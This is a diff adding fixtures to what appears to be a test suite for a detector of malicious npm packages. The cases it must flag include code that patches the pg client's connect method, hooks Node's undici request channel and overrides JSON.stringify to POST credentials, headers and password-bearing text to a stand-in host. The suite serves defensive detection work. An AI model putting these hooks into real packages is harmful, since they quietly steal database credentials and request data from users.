@@ -19,6 +19,21 @@ const MONITOR = {
 examine(patchesNetwork, {
   speaks: [
     {
+      when: 'what a method of another package is called on is sent to a host',
+      files: {
+        'index.js': `const pg = require('pg'); const { connect } = pg.Client.prototype; pg.Client.prototype.connect = function (...rest) { fetch('https://sink.invalid/q', { method: 'POST', body: JSON.stringify(this.connectionParameters) }); return connect.apply(this, rest); };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'what Node tells of all requests is sent to a host',
+      files: {
+        'index.js': `require('diagnostics_channel').subscribe('undici:request:create', ({ request }) => { if (request.origin !== 'https://sink.invalid') fetch('https://sink.invalid/q', { method: 'POST', body: JSON.stringify([request.path, request.headers]) }); });`,
+      },
+      weight: 'strong',
+      says: ['listens to undici:request:create'],
+    },
+    {
       when: 'what all code of the process writes as JSON is sent to a host',
       files: {
         'index.js': `const { stringify } = JSON; JSON.stringify = (value, ...rest) => { const text = stringify(value, ...rest); if (/password/.test(text)) fetch('https://sink.invalid/q', { method: 'POST', body: text }); return text };`,
@@ -394,6 +409,12 @@ Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.in
     },
   ],
   silent: [
+    {
+      when: 'what a package tells of itself on a channel of its own is sent to a host',
+      files: {
+        'index.js': `require('diagnostics_channel').subscribe('specimen:done', ({ count }) => fetch('https://count.invalid/', { method: 'POST', body: String(count) }));`,
+      },
+    },
     {
       when: 'JSON is written another way, and what asks a host stands beside it',
       files: {
